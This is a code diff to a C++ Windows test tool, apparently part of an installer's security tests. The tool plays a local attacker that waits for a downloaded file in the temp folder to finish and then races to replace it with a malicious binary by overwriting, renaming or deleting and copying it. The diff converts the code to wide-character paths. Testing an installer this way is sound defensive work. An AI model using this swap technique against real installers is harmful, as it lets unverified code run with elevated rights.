@@ -1,7 +1,9 @@
 // Plays a local attacker who wants an unverified program run with the
-// installer's rights: once TARGET has reached SIZE bytes (the download is
-// complete), it tries for DURATION ms, as fast as it can, to put EVIL in
-// TARGET's place (overwrite in place, replace by rename, delete and copy).
+// installer's rights: once TARGET (a file name in the user's temporary
+// folder, which may be named in any language) has reached SIZE bytes (the
+// download is complete), it tries for DURATION ms, as fast as it can, to put
+// EVIL in TARGET's place (overwrite in place, replace by rename, delete and
+// copy).
 //
 //   swapper TARGET EVIL SIZE DURATION_MS [after-lock]
 //
@@ -32,9 +34,16 @@ std::vector<char> ReadAll(const char* path)
     return data;
 }
 
-bool Overwrite(const char* target, const std::vector<char>& evil, DWORD& error)
+std::wstring Widen(const char* text)
 {
-    HANDLE file = CreateFileA(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
+    wchar_t wide[MAX_PATH] = {};
+    MultiByteToWideChar(CP_ACP, 0, text, -1, wide, MAX_PATH);
+    return wide;
+}
+
+bool Overwrite(const wchar_t* target, const std::vector<char>& evil, DWORD& error)
+{
+    HANDLE file = CreateFileW(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                               OPEN_EXISTING, 0, nullptr);
     if (file == INVALID_HANDLE_VALUE) {
         error = GetLastError();
@@ -48,22 +57,22 @@ bool Overwrite(const char* target, const std::vector<char>& evil, DWORD& error)
     return ok;
 }
 
-bool ReplaceByRename(const char* target, const std::string& staged, const char* evil, DWORD& error)
+bool ReplaceByRename(const wchar_t* target, const std::wstring& staged, const wchar_t* evil, DWORD& error)
 {
-    CopyFileA(evil, staged.c_str(), FALSE);
-    if (MoveFileExA(staged.c_str(), target, MOVEFILE_REPLACE_EXISTING))
+    CopyFileW(evil, staged.c_str(), FALSE);
+    if (MoveFileExW(staged.c_str(), target, MOVEFILE_REPLACE_EXISTING))
         return true;
     error = GetLastError();
     return false;
 }
 
-bool DeleteAndCopy(const char* target, const char* evil, DWORD& error)
+bool DeleteAndCopy(const wchar_t* target, const wchar_t* evil, DWORD& error)
 {
-    if (!DeleteFileA(target)) {
+    if (!DeleteFileW(target)) {
         error = GetLastError();
         return false;
     }
-    return CopyFileA(evil, target, TRUE) != FALSE;
+    return CopyFileW(evil, target, TRUE) != FALSE;
 }
 
 }  // namespace
@@ -74,17 +83,21 @@ int main(int argc, char** argv)
         std::fprintf(stderr, "usage: swapper TARGET EVIL SIZE DURATION_MS [after-lock]\n");
         return 2;
     }
-    const char* target = argv[1];
-    const char* evil = argv[2];
+    wchar_t folder[MAX_PATH] = {};
+    GetTempPathW(MAX_PATH, folder);
+    const std::wstring targetPath = folder + Widen(argv[1]);
+    const wchar_t* target = targetPath.c_str();
+    const std::wstring evilPath = Widen(argv[2]);
+    const wchar_t* evil = evilPath.c_str();
     const unsigned long size = std::strtoul(argv[3], nullptr, 10);
     const DWORD duration = std::strtoul(argv[4], nullptr, 10);
-    const std::vector<char> evilBytes = ReadAll(evil);
-    const std::string staged = std::string(target) + ".staged";
+    const std::vector<char> evilBytes = ReadAll(argv[2]);
+    const std::wstring staged = targetPath + L".staged";
 
     const DWORD waitStart = GetTickCount();
     for (;;) {
         WIN32_FILE_ATTRIBUTE_DATA data;
-        if (GetFileAttributesExA(target, GetFileExInfoStandard, &data) && data.nFileSizeLow == size)
+        if (GetFileAttributesExW(target, GetFileExInfoStandard, &data) && data.nFileSizeLow == size)
             break;
         if (GetTickCount() - waitStart > 120000) {
             std::printf("target never complete\n");
@@ -95,7 +108,7 @@ int main(int argc, char** argv)
 
     if (argc == 6) {
         for (;;) {
-            HANDLE probe = CreateFileA(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
+            HANDLE probe = CreateFileW(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                                        nullptr, OPEN_EXISTING, 0, nullptr);
             if (probe != INVALID_HANDLE_VALUE)
                 CloseHandle(probe);
@@ -131,7 +144,7 @@ int main(int argc, char** argv)
         else if (error == ERROR_SHARING_VIOLATION || error == ERROR_ACCESS_DENIED)
             ++sharingViolations;
     }
-    DeleteFileA(staged.c_str());
+    DeleteFileW(staged.c_str());
     std::printf("attempts %lu replaced %lu sharing-violations %lu\n", attempts, replaced, sharingViolations);
     return 0;
 }
